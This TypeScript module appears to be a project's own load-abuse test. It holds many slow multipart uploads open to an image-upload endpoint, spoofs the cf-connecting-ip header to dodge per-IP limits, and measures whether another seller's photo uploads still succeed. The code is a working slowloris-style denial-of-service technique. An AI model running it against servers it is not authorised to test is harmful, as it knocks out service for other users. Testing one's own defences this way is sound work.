import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { atIntervals, type Finding, findingOf, timed } from './report.ts';

/** Attack 2: the largest upload at a trickle, replaced as soon as it is ended, against others' photos. */
const ANNOUNCED = 31 * 1024 * 1024;
const CHUNK = Buffer.alloc(1_050, 'x');
const CHUNK_EVERY_MS = 100;
const PROBES = 30;
const PROBE_EVERY_MS = 1_000;
const WITHIN_MS = 9_000;
const PHOTO = readFileSync('scripts/seed/pictures/baleno-delta-cvt-front.webp');

function trickle(origin: string, cookie: string, connections: number, networkOf: (nth: number) => string) {
  const { host, hostname, port } = new URL(origin);
  const open = new Set<Socket>();
  let opened = 0;
  let isOver = false;
  const begin = (nth: number) => {
    if (isOver) return;
    opened += 1;
    const socket = connect(Number(port), hostname);
    open.add(socket);
    const timer = setInterval(() => socket.writable && socket.write(CHUNK), CHUNK_EVERY_MS);
    socket.on('error', () => {});
    socket.on('data', () => socket.destroy());
    socket.on('close', () => {
      clearInterval(timer);
      open.delete(socket);
      setTimeout(() => begin(nth), 500);
    });
    const from = `host: ${host}\r\norigin: http://${host}\r\ncf-connecting-ip: ${networkOf(nth)}\r\ncookie: ${cookie}\r\nuser-agent: trickling ${nth}`;
    socket.write(
      `POST /api/upload/images HTTP/1.1\r\n${from}\r\ncontent-type: multipart/form-data; boundary=x\r\ncontent-length: ${ANNOUNCED}\r\n\r\n`,
    );
    socket.write('--x\r\ncontent-disposition: form-data; name="images"; filename="a.jpg"\r\n\r\n');
  };
  for (let nth = 0; nth < connections; nth++) begin(nth);
  return () => {
    isOver = true;
    for (const socket of open) socket.destroy();
    return opened;
  };
}

export async function attackUploads(
  origin: string,
  { attacker, victim }: { attacker: string; victim: string },
  { name, connections, sites, block }: { name: string; connections: number; sites: number; block: number },
): Promise<Finding[]> {
  const stop = trickle(origin, attacker, connections, (nth) => `198.51.${block}.${nth % sites}`);
  await sleep(3_000);
  const answers = await atIntervals(PROBES, PROBE_EVERY_MS, (nth) => {
    const body = new FormData();
    body.append('images', new Blob([PHOTO], { type: 'image/webp' }), `${nth}.webp`);
    const headers = { origin, cookie: victim, 'cf-connecting-ip': `203.0.${block}.1` };
    const signal = AbortSignal.timeout(20_000);
    return timed(() => fetch(`${origin}/api/upload/images`, { method: 'POST', headers, body, signal }));
  });
  const opened = stop();
  return [
    findingOf(`uploads, ${name}: photos of another seller`, answers, { withinMs: WITHIN_MS }),
    { what: `uploads, ${name}: connections opened`, figure: `${opened}`, limit: '', isMet: true },
  ];
}
